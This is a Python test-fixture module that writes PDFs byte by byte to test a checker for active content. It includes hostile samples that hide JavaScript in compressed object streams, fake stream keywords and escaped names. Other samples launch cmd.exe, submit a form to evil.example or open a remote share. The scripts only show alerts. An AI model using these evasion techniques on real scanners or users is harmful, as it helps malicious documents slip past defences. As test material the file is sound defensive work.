"""PDFs written byte by byte in the test: hostile ones that hide active content, and harmless ones.

`build` writes a PDF from numbered object bodies. Objects listed in `packed` go
into one object stream, encoded with the given filter chain (and optionally a
PNG predictor, or without `/Type /ObjStm`); the file then has a cross-reference
stream, as PDF 1.5 writers do. Every encoder here is written for the test (no
PDF library writes these files), so what a real parser has to undo is exactly
what the file says.

`HOSTILE` maps a name to (a function making the file, the kind a checker must find);
`HARMLESS` maps a name to a function making a file that must be accepted.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable, Mapping, Sequence

#: The object numbers every file here uses for its page tree.
CATALOG, PAGES, PAGE = 1, 2, 3

JS = b"<< /S /JavaScript /JS (app.alert\\('Hallo'\\)) >>"


# -- encoders for the stream filters --------------------------------------------------------


def lzw_encode(data: bytes) -> bytes:
    """LZW as PDF's LZWDecode reads it: 9 to 12 bit codes, EarlyChange 1, clear code 256."""
    clear, end = 256, 257
    table = {bytes([i]): i for i in range(256)}
    codes: list[tuple[int, int]] = []  # (code, width)
    width, next_code = 9, 258
    codes.append((clear, width))
    current = b""
    for byte in data:
        candidate = current + bytes([byte])
        if candidate in table:
            current = candidate
            continue
        codes.append((table[current], width))
        table[candidate] = next_code
        next_code += 1
        # EarlyChange: the width grows one code early.
        if next_code + 1 > (1 << width) and width < 12:
            width += 1
        if next_code >= 4094:
            codes.append((clear, width))
            table = {bytes([i]): i for i in range(256)}
            width, next_code = 9, 258
        current = bytes([byte])
    if current:
        codes.append((table[current], width))
        next_code += 1
        if next_code + 1 > (1 << width) and width < 12:
            width += 1
    codes.append((end, width))
    bits = "".join(format(code, f"0{w}b") for code, w in codes)
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big") if bits else b""


def run_length_encode(data: bytes) -> bytes:
    """RunLengthDecode's format, literal runs only (at most 128 bytes each)."""
    out = bytearray()
    for start in range(0, len(data), 128):
        piece = data[start:start + 128]
        out += bytes([len(piece) - 1]) + piece
    return bytes(out + b"\x80")


def png_up_rows(data: bytes, columns: int) -> bytes:
    """Rows of `columns` bytes, each with PNG filter 2 (Up): what /Predictor 12 undoes."""
    data += b" " * (-len(data) % columns)
    out, previous = bytearray(), bytes(columns)
    for start in range(0, len(data), columns):
        row = data[start:start + columns]
        out += b"\x02" + bytes((a - b) & 0xFF for a, b in zip(row, previous, strict=True))
        previous = row
    return bytes(out)


ENCODERS: dict[str, Callable[[bytes], bytes]] = {
    "FlateDecode": zlib.compress,
    "ASCIIHexDecode": lambda data: data.hex().encode() + b">",
    "ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
    "LZWDecode": lzw_encode,
    "RunLengthDecode": run_length_encode,
}


def encode(data: bytes, filters: Sequence[str]) -> bytes:
    """Encode so that decoding with `filters`, first to last, gives `data` back."""
    for name in reversed(filters):
        data = ENCODERS[name](data)
    return data


# -- writing a file ----------------------------------------------------------------------------


def page_tree(page_extra: bytes = b"", catalog_extra: bytes = b"") -> dict[int, bytes]:
    return {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> "
              + page_extra + b">>",
    }


def stream_object(dictionary: bytes, data: bytes) -> bytes:
    """An object body that is a stream: dictionary (without /Length), then the data."""
    return (b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data
            + b"\nendstream")


def build(objects: Mapping[int, bytes], *, packed: Sequence[int] = (),
          filters: Sequence[str] = ("FlateDecode",), predictor_columns: int | None = None,
          objstm_type: bool = True, between: Sequence[bytes] = ()) -> bytes:
    """A PDF with `objects` (number -> body); those in `packed` go into an object stream.

    `between` is written, as further objects, before the object stream (for the fake
    stream keyword). Without `packed`, the file has a classic cross-reference table.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        if number in packed:
            continue
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for piece in between:
        out += piece
    size = max(objects) + 1
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            out += (b"%010d 00000 n \n" % offsets[number]) if number in offsets else (
                b"0000000000 65535 f \n")
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
        return bytes(out)

    # The object stream: "number offset" pairs, then the objects.
    stream_number, xref_number = size, size + 1
    header, bodies = [], b""
    for number in packed:
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number] + b"\n"
    head = b" ".join(header) + b"\n"
    plain = head + bodies
    parms = b""
    if predictor_columns:
        plain = png_up_rows(plain, predictor_columns)
        parms = b" /DecodeParms << /Predictor 12 /Columns %d >>" % predictor_columns
        if len(filters) > 1:  # the parameters belong to the FlateDecode step of the chain
            parms = b" /DecodeParms [" + b" ".join(
                b"<< /Predictor 12 /Columns %d >>" % predictor_columns if f == "FlateDecode"
                else b"null" for f in filters) + b"]"
    data = encode(plain, filters)
    names = b" ".join(b"/" + f.encode() for f in filters)
    filter_entry = (b" /Filter [" + names + b"]" if len(filters) > 1
                    else b" /Filter " + names if filters else b"")
    kind = b"/Type /ObjStm " if objstm_type else b""
    offsets[stream_number] = len(out)
    out += b"%d 0 obj\n" % stream_number + stream_object(
        kind + b"/N %d /First %d" % (len(packed), len(head)) + filter_entry + parms, data
    ) + b"\nendobj\n"

    # The cross-reference stream: type 1 (offset) or 2 (object stream, index), unfiltered.
    offsets[xref_number] = len(out)
    rows = bytearray(b"\x00" + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big"))
    for number in range(1, xref_number + 1):
        if number in packed:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + packed.index(number).to_bytes(
                2, "big")
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + (0).to_bytes(2, "big")
        else:
            rows += b"\x00" + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")
    out += b"%d 0 obj\n" % xref_number + stream_object(
        b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1), bytes(rows)
    ) + b"\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)


def open_action_packed(**options) -> bytes:
    """The catalogue, with its /OpenAction script, hidden in an object stream."""
    return build(page_tree(catalog_extra=b"/OpenAction " + JS + b" "),
                 packed=[CATALOG, PAGES], **options)


# -- the hostile set ---------------------------------------------------------------------------


def _fake_stream_keyword() -> bytes:
    # A string that contains "stream" and a line end, and much later one with "endstream":
    # a scanner that takes them for a stream's start and end skips the script between them.
    objects = page_tree(catalog_extra=b"/OpenAction 5 0 R ")
    objects[4] = b"<< /Producer (Scanner stream\n) /Length 99999 >>"
    objects[5] = JS
    objects[6] = b"<< /Note (endstream) >>"
    return build(objects)


def _embedded_file() -> bytes:
    objects = page_tree(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(rechnung.exe) 4 0 R] "
                                      b">> >> ")
    objects[4] = b"<< /Type /Filespec /F (rechnung.exe) /UF (rechnung.exe) /EF << /F 5 0 R >> >>"
    objects[5] = stream_object(b"/Type /EmbeddedFile", b"MZ\x90\x00 not really a program")
    return build(objects)


def _annotation(action: bytes, subtype: bytes = b"/Link", key: bytes = b"/A") -> bytes:
    objects = page_tree(page_extra=b"/Annots [4 0 R] ")
    objects[4] = (b"<< /Type /Annot /Subtype " + subtype + b" /Rect [10 10 100 40] "
                  + key + b" " + action + b" >>")
    return build(objects)


def _widget_with_javascript() -> bytes:
    objects = page_tree(page_extra=b"/Annots [4 0 R] ", catalog_extra=b"/AcroForm 5 0 R ")
    objects[4] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 100 40] "
                  b"/AA << /K " + JS + b" /Fo " + JS + b" >> >>")
    objects[5] = b"<< /Fields [4 0 R] >>"
    return build(objects)


def _xfa() -> bytes:
    objects = page_tree(catalog_extra=b"/AcroForm << /Fields [] /XFA 4 0 R >> ")
    objects[4] = stream_object(b"", b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
    return build(objects)


def _javascript_name_tree() -> bytes:
    objects = page_tree(catalog_extra=b"/Names << /JavaScript 4 0 R >> ")
    objects[4] = b"<< /Names [(start) 5 0 R] >>"
    objects[5] = JS
    return build(objects)


def _rich_media() -> bytes:
    return _annotation(b"<< /Assets << >> >>", subtype=b"/RichMedia", key=b"/RichMediaContent")


#: name -> (bytes, the kind a checker must report). Built on first use.
HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "objstm-no-filter": (lambda: open_action_packed(filters=()), "javascript"),
    "objstm-flate": (lambda: open_action_packed(), "javascript"),
    "objstm-asciihex": (lambda: open_action_packed(filters=["ASCIIHexDecode"]), "javascript"),
    "objstm-ascii85": (lambda: open_action_packed(filters=["ASCII85Decode"]), "javascript"),
    "objstm-lzw": (lambda: open_action_packed(filters=["LZWDecode"]), "javascript"),
    "objstm-runlength": (lambda: open_action_packed(filters=["RunLengthDecode"]), "javascript"),
    "objstm-flate-png-predictor": (
        lambda: open_action_packed(predictor_columns=5), "javascript"),
    "objstm-filter-chain": (
        lambda: open_action_packed(filters=["ASCIIHexDecode", "LZWDecode", "FlateDecode"]),
        "javascript"),
    "objstm-chain-with-predictor": (
        lambda: open_action_packed(filters=["ASCII85Decode", "FlateDecode"], predictor_columns=7),
        "javascript"),
    "objstm-without-type": (lambda: open_action_packed(objstm_type=False), "javascript"),
    "fake-stream-keyword": (_fake_stream_keyword, "javascript"),
    "name-escape": (lambda: build(page_tree(
        catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> ")),
        "javascript"),
    "launch": (lambda: build(page_tree(
        catalog_extra=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> ")), "launch"),
    "embedded-file": (_embedded_file, "embedded_file"),
    "catalog-aa": (lambda: build(page_tree(catalog_extra=b"/AA << /WC " + JS + b" >> ")),
                   "javascript"),
    "page-aa": (lambda: build(page_tree(page_extra=b"/AA << /O " + JS + b" >> ")),
                "javascript"),
    "link-with-javascript": (lambda: _annotation(JS), "javascript"),
    "javascript-uri": (lambda: _annotation(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
                       "javascript"),
    "widget-with-javascript": (_widget_with_javascript, "javascript"),
    "xfa": (_xfa, "xfa"),
    "javascript-name-tree": (_javascript_name_tree, "javascript"),
    "submit-form": (lambda: _annotation(b"<< /S /SubmitForm /F << /FS /URL /F "
                                        b"(https://evil.example/) >> >>"), "form_action"),
    "import-data": (lambda: _annotation(b"<< /S /ImportData /F (daten.fdf) >>"), "form_action"),
    "goto-remote": (lambda: _annotation(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) "
                                        b"/D [0 /Fit] >>"), "remote"),
    "rich-media": (_rich_media, "rich_media"),
    "file-attachment-annotation": (lambda: _annotation(
        b"<< /Type /Filespec /F (x.exe) >>", subtype=b"/FileAttachment", key=b"/FS"),
        "embedded_file"),
    "next-action-chain": (lambda: build(page_tree(
        catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [" + JS + b"] >> ")),
        "javascript"),
}


def hostile(name: str) -> bytes:
    return HOSTILE[name][0]()


# -- harmless files ----------------------------------------------------------------------------


def _link() -> bytes:
    return _annotation(b"<< /S /URI /URI (https://www.berlin.de/polizei/) >>")


def _form_without_script() -> bytes:
    objects = page_tree(page_extra=b"/Annots [4 0 R 5 0 R] ", catalog_extra=b"/AcroForm 6 0 R ")
    objects[4] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Olena) "
                  b"/Rect [10 10 100 40] /F 4 >>")
    objects[5] = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (ok) /Rect [10 50 40 80] "
                  b"/F 4 /A << /S /ResetForm >> >>")
    objects[6] = b"<< /Fields [4 0 R 5 0 R] /DA (/Helv 0 Tf 0 g) >>"
    return build(objects)


def _internal_link() -> bytes:
    return _annotation(b"<< /S /GoTo /D [3 0 R /Fit] >>")


def _compressed_harmless() -> bytes:
    # An object stream behind a filter chain, with nothing active in it.
    objects = page_tree(catalog_extra=b"/Lang (de-DE) /ViewerPreferences << /DisplayDocTitle true "
                                      b">> ")
    objects[4] = b"<< /Title (Mietvertrag JavaScript-Kurs) /Author (JS) >>"
    return build(objects, packed=[CATALOG, PAGES, 4],
                 filters=["ASCIIHexDecode", "FlateDecode"], predictor_columns=5)


HARMLESS: dict[str, Callable[[], bytes]] = {
    "plain": lambda: build(page_tree()),
    "uri-link": _link,
    "internal-link": _internal_link,
    "form-without-script": _form_without_script,
    "compressed-harmless": _compressed_harmless,
}
